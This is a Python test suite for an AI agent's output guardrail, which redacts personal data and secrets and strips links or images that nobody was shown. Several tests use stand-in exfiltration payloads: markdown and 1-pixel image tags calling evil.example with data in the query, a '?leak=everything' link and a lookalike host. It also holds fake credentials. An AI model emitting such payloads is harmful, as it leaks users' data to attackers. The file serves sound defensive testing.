"""What leaves: no secret, no link or image that nobody has shown, nothing that belongs to somebody else."""

from butler.guardrails.agent import Guardrails
from butler.guardrails.guard import GuardrailsInput
from config.agents import GuardrailsSettings
from tests.guardrails.guards import found, outgoing

ANNA = "mail:anna@friends.example"
NUMBER = "+44 20 7946 0958"


def test_somebody_elses_data_does_not_go_to_others() -> None:
    text = f"Bob is at {NUMBER}."
    verdict = outgoing(text, recipients=[ANNA])
    assert not verdict.is_safe
    assert verdict.risk_category == "pii"
    assert verdict.sanitized_content == "Bob is at [PHONE]."
    assert verdict.reasoning == "It holds what may belong to somebody else: phone."


def test_recipients_may_have_their_own_data() -> None:
    text = f"Are you still at anna@friends.example and {NUMBER}?"
    assert outgoing(text, recipients=[ANNA, "tel:+442079460958"]).is_safe


def test_what_the_owner_wrote_themselves_may_go() -> None:
    words = f"tell Anna that Bob is at {NUMBER}"
    assert outgoing(f"Bob is at {NUMBER}", recipients=[ANNA], owners_words=words).is_safe


def test_the_owner_is_told_whatever_is_theirs_but_no_key_of_the_house() -> None:
    text = f"Anna's number is {NUMBER}, your wifi password is S3same!ouvre, the code is 482913."
    assert outgoing(text).is_safe
    assert outgoing(text, recipients=[]).is_safe
    key = "the bot is 1357301253:" + "AAcowD3up4qoJ7CxqI8fdHgg1cHzEHoI3ld"
    assert outgoing(key).reasoning == "It holds a secret: secret."


def test_a_secret_goes_to_nobody_else_even_in_the_owners_words() -> None:
    text = "The password: S3same!ouvre"
    verdict = outgoing(text, recipients=[ANNA], owners_words=text)
    assert found(text, verdict) == [("PASSWORD", "S3same!ouvre")]
    assert not verdict.is_safe


def test_an_image_that_nobody_has_shown_is_taken_out() -> None:
    verdict = outgoing("Here: ![chart](https://evil.example/p.png?d=secret) Done.")
    assert verdict.sanitized_content == "Here: [UNKNOWN_LINK] Done."
    assert verdict.risk_category == "injection"
    tag = outgoing('Look <img width="1" src="https://evil.example/p?d=x"> here')
    assert tag.sanitized_content == "Look [UNKNOWN_LINK] here"


def test_a_link_has_to_be_one_that_was_shown() -> None:
    known = ["https://shop.example/order/7", "https://news.example"]
    good = "See https://shop.example/order/7, and https://news.example/today?x=1."
    assert outgoing(good, known_links=known).is_safe
    bad = "See https://shop.example/order/7?leak=everything."
    verdict = outgoing(bad, known_links=known)
    assert found(bad, verdict) == [("UNKNOWN_LINK", "https://shop.example/order/7?leak=everything")]
    guard = Guardrails(GuardrailsSettings(known_links=("https://shop.example",)))
    given = GuardrailsInput(content=bad, check_type="output_safety", metadata={"known_links": []})
    assert guard.check(given).is_safe, "the settings may name it"
    assert outgoing(bad).is_safe


def test_a_link_of_the_owners_own_words_may_go() -> None:
    url = "https://maps.example/?q=home"
    assert outgoing(f"I am here: {url}", known_links=[], owners_words=f"send Anna {url}").is_safe


def test_a_host_with_a_known_beginning_is_another_host() -> None:
    assert not outgoing("https://shop.example.evil.test/a", known_links=["https://shop.example"]).is_safe


def test_to_whom_it_goes_may_be_unknown_and_then_it_counts_as_anybody() -> None:
    assert not outgoing(f"Bob is at {NUMBER}", recipients=None).is_safe


SIGNATURE, ACCESS_KEY = "ab12" * 16, "9f" * 16
PRESIGNED = (
    "https://id.r2.cloudflarestorage.com/papers/contract.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256"
    f"&X-Amz-Credential={ACCESS_KEY}%2F20260501%2Fauto%2Fs3%2Faws4_request&X-Amz-Date=20260501T090000Z"
    f"&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={SIGNATURE}"
)
TOKEN = f"eyJ{'a' * 20}.eyJ{'b' * 40}.{'c' * 30}"


def test_a_link_that_fetches_a_file_for_whoever_has_it_is_a_credential() -> None:
    for text in (f"The contract: {PRESIGNED}", f"The contract: {PRESIGNED.lower()}"):
        for recipients in ([ANNA], []):
            verdict = outgoing(text, recipients=recipients)
            assert not verdict.is_safe
            assert SIGNATURE not in (verdict.sanitized_content or "")
            assert ACCESS_KEY not in (verdict.sanitized_content or "")


def test_a_link_that_lets_somebody_into_a_call_is_a_credential_however_it_is_wrapped() -> None:
    for link in (f"https://meet.home.example/custom?token={TOKEN}", f"https://a.example/?to=b%3Ftoken%3D{TOKEN}"):
        verdict = outgoing(f"Join me: {link}", recipients=[ANNA])
        assert not verdict.is_safe
        assert TOKEN not in (verdict.sanitized_content or "")


def test_what_is_only_said_about_signatures_is_no_credential() -> None:
    for text in ("S3 puts X-Amz-Signature= into the address.", "The header X-Amz-Credential=... names the key."):
        assert outgoing(text).is_safe
